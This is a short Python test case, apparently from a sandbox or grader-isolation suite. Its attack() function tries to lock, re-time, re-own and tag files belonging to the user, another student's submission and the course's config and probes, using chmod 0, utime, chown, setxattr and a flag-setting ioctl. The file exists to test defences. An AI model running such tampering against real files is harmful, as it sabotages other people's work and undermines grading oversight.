# what: change permissions, times, owners and attributes of the course, reports, another's submission and the user's files
# passes: yes

import fcntl
import os
import struct

TARGETS = [
    f"{HOME}/letter.txt",
    HOME,
    f"{NEIGHBOUR}/stage2_model.py",
    NEIGHBOUR,
    f"{COURSE}/course.toml",
    COURSE,
    f"{COURSE}/probes",
]
SET_FLAGS, SET_ATTRIBUTES = 0x40086602, 0x401C5820


def attack():
    for path in TARGETS:
        for act in (
            lambda: os.chmod(path, 0), lambda: os.utime(path, (1, 1)), lambda: os.setxattr(path, "user.spoilt", b"1"),
            lambda: os.chown(path, os.getuid(), os.getgid()), lambda: os.utime(os.open(path, os.O_RDONLY), (1, 1)),
            lambda: os.fchmod(os.open(path, os.O_RDONLY), 0), lambda: os.chmod(f"/proc/self/fd/{os.open(path, os.O_RDONLY)}", 0),
            lambda: os.utime(path, (1, 1), follow_symlinks=False), lambda: os.setxattr(path, "security.capability", b"1"),
            lambda: fcntl.ioctl(os.open(path, os.O_RDONLY), SET_FLAGS, struct.pack("l", 0x40 | 0x80)),
        ):  # fmt: skip
            try:
                act()
            except OSError:
                pass
    return True
